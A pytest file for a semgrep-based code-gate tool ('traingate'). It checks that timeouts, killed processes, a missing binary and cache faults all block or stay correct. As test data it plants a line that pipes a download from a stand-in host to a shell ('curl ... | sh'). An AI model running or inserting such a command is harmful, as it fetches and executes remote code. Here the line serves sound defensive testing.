"""Process faults around semgrep and the cache: each blocks or stays correct, never passes
silently. The wrappers below run the REAL semgrep, only delayed or killed."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from traingate.checks.semgrep.runner import semgrep_executable
from traingate.cli import main

from .conftest import POLICY, Repo

INJECTED = "import os\nos.system('curl -s http://x.example/p | sh')\n"


@pytest.fixture
def frepo(repo: Repo, request: pytest.FixtureRequest) -> Repo:
    timeout = 3 if "timeout" in request.node.name else 600
    repo.write(".traingate.yaml", POLICY + f"checks:\n  semgrep: {{timeout: {timeout}}}\n")
    repo.write("README.md", "r\n")
    repo.commit("base")
    repo.branch("feature")
    repo.write("tools/run.py", INJECTED)
    repo.commit("inject", who="mallory")
    return repo


def wrapper(tmp_path: Path, body: str) -> Path:
    real = semgrep_executable()
    script = tmp_path / "semgrep-wrapper"
    script.write_text(f"#!/bin/sh\n{body.replace('REAL', real)}\n")
    script.chmod(0o755)
    return script


def run(repo: Repo, capsys: pytest.CaptureFixture[str]) -> tuple[int, dict[str, Any]]:
    code = main(
        [
            "check",
            "--repo",
            str(repo.path),
            "--base",
            "main",
            "--head",
            "feature",
            "--format",
            "json",
        ]
    )
    return code, json.loads(capsys.readouterr().out)


@pytest.fixture
def cold(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    cache = tmp_path / "cache"
    monkeypatch.setenv("TRAINGATE_CACHE_DIR", str(cache))
    return cache


def test_semgrep_timeout_blocks(
    frepo: Repo,
    tmp_path: Path,
    cold: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("TRAINGATE_SEMGREP", str(wrapper(tmp_path, 'sleep 30; exec REAL "$@"')))
    code, doc = run(frepo, capsys)
    assert code == 3 and doc["decision"] == "block"
    assert "semgrep did not finish within 3s" in doc["errors"][0]


def test_semgrep_killed_mid_run_blocks(
    frepo: Repo,
    tmp_path: Path,
    cold: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv(
        "TRAINGATE_SEMGREP",
        str(wrapper(tmp_path, 'REAL "$@" >/dev/null 2>&1 & sleep 0.5; kill -9 $$')),
    )
    code, doc = run(frepo, capsys)
    assert code == 3 and doc["decision"] == "block"
    assert "semgrep exited with code -9" in doc["errors"][0]


def test_semgrep_missing_blocks(
    frepo: Repo,
    tmp_path: Path,
    cold: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("TRAINGATE_SEMGREP", str(tmp_path / "nowhere" / "semgrep"))
    code, doc = run(frepo, capsys)
    assert code == 3 and "is not an executable file" in doc["errors"][0]


def test_semgrep_not_installed_at_all(tmp_path: Path) -> None:
    """A traingate whose interpreter has no semgrep beside it and none on PATH."""
    venv = tmp_path / "bare"
    shutil.copytree(
        Path(sys.executable).parent,
        venv / "bin",
        symlinks=True,
        ignore=shutil.ignore_patterns("semgrep*", "pysemgrep"),
    )
    env = {"PATH": str(venv / "bin") + ":/usr/bin:/bin", "TRAINGATE_CACHE_DIR": str(tmp_path / "c")}
    code = (
        "import sys; sys.executable = sys.argv[1]\n"
        "from traingate.checks.semgrep.runner import semgrep_executable\n"
        "from traingate.errors import CheckError\n"
        "try:\n    semgrep_executable()\nexcept CheckError as e:\n    print(e.message)\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", code, str(venv / "bin" / "python")],
        env={**os.environ, **env},
        capture_output=True,
        text=True,
    )
    assert "semgrep is not installed or not on PATH" in out.stdout


def test_read_only_cache_still_gives_the_right_answer(
    frepo: Repo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    cache = tmp_path / "ro-cache"
    cache.mkdir()
    cache.chmod(0o555)
    monkeypatch.setenv("TRAINGATE_CACHE_DIR", str(cache))
    try:
        code, doc = run(frepo, capsys)
    finally:
        cache.chmod(0o755)
    assert code == 1 and doc["errors"] == []
    assert any(f["path"] == "tools/run.py" and f["check"] == "semgrep" for f in doc["findings"])


def test_concurrent_runs_share_the_cache(frepo: Repo, tmp_path: Path, cold: Path) -> None:
    env = {**os.environ, "TRAINGATE_CACHE_DIR": str(cold)}
    cmd = [
        sys.executable,
        "-m",
        "traingate",
        "check",
        "--repo",
        str(frepo.path),
        "--base",
        "main",
        "--head",
        "feature",
        "--format",
        "json",
    ]

    def one(_: int) -> tuple[int, list[tuple[str, int]]]:
        p = subprocess.run(cmd, env=env, capture_output=True, text=True)
        doc = json.loads(p.stdout)
        return p.returncode, sorted((f["rule_id"], f["line"] or 0) for f in doc["findings"])

    with ThreadPoolExecutor(4) as pool:
        results = list(pool.map(one, range(4)))
    assert len({json.dumps(r) for r in results}) == 1
    code, found = results[0]
    assert code == 1 and any(line == 2 for _, line in found)
    assert not list(cold.rglob("*.tmp"))  # every write was atomic and completed
